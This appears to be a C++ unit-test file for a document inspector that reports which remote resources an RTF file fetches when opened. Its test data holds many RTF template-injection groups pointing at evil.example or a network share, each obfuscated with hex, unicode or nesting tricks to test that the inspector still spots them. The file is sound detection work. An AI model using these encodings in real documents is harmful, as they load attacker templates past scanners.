// What a document in RTF fetches when it is opened.
#include <gtest/gtest.h>

#include "inspector/inspect.h"

namespace fuwake::inspector {
namespace {

using Strings = std::vector<std::string>;

Strings fetched_by(const std::string& group) {
  return inspect("{\\rtf1\\ansi\\deff0{\\fonttbl{\\f0 Arial;}}" + group + "\\pard Hello\\par}").fetched;
}

TEST(Rtf, TellsItsTemplate) {
  for (const char* group :
       {"{\\*\\template http://evil.example/a}", "{\\*\\template\r\nhttp://evil.example/a}",
        "{\\*\\template \\'68\\'74tp://evil.example/a}", "{\\*\\template \\u104?\\u116 ?tp://evil.exa\nmple/a}",
        "{\\*\\template \\u104\\'68ttp://evil.example/a}", "{\\*\\template \\b http://evil{.example/a}}",
        "{\\*\\template {h}ttp://evil.example/a}", "{\\*\\template ht{\\*\\zz zz}tp://evil.example/a}",
        "{\\*\\template \\uc0\\u104 ttp://evil.example/a}", "{\\*\\template \\uc2\\u104 ??ttp://evil.example/a}",
        "{\\*\\template \\u-65432?ttp://evil.example/a}", "{\\*\\template ht{\n\\*\\zz zz}tp://evil.example/a}",
        "{\\*\\template \\u104\\par ttp://evil.example/a}", "{\\*\\template ht{\\*\\zz \\bin2 }}}tp://evil.example/a}"})
    EXPECT_EQ(fetched_by(group), Strings{"http://evil.example/a"}) << group;
  EXPECT_EQ(fetched_by("{\\uc0{\\*\\template \\u104 ttp://evil.example/a}}"), Strings{"http://evil.example/a"});
  // What a closed group said of substitutes is forgotten.
  for (const char* group :
       {"{\\uc9 x}{\\*\\template \\u104?ttp://evil.example/a}",
        "{\\uc9{\\uc3 x}}{\\*\\template \\u104?ttp://evil.example/a}",
        "{\\uc2{\\uc9 x}{\\*\\template \\u104??ttp://evil.example/a}}",
        "{\\*\\template {\\uc9}\\u104?ttp://evil.example/a}", "\\bin4 {\\uc{\\*\\template \\u104?ttp://evil.example/a}",
        "{\\*\\ucx9}{\\*\\template \\u104?ttp://evil.example/a}"})
    EXPECT_EQ(fetched_by(group), Strings{"http://evil.example/a"}) << group;
  EXPECT_EQ(fetched_by("{\\*\\template \\\\\\\\server\\\\a.dotm}"), Strings{"\\\\server\\a.dotm"});
}

TEST(Rtf, LeavesTheRest) {
  EXPECT_TRUE(fetched_by("").empty());
  EXPECT_TRUE(fetched_by("{\\*\\templatexyz http://evil.example/a}").empty());
  EXPECT_TRUE(inspect("A text about {\\*\\template http://evil.example/a}").fetched.empty());
}

TEST(Rtf, SurvivesAnyEnd) {
  const std::string group = "{\\rtf1{\\*\\template \\'68\\u104\\'68\\u-1?\\\\http}";
  for (std::size_t length = 0; length <= group.size(); ++length) (void)inspect(group.substr(0, length));
  std::string many = "{\\rtf1";
  for (int i = 0; i < 100; ++i) many += "{\\*\\template http://evil.example/" + std::to_string(i) + "}";
  EXPECT_FALSE(inspect("{\\rtf1{\\*\\template http://evil.example/a}}").cut);
  EXPECT_TRUE(inspect(many).cut);
  EXPECT_TRUE(inspect("{\\rtf1{\\*\\template " + std::string(100'000, 'a')).cut);
}

}  // namespace
}  // namespace fuwake::inspector
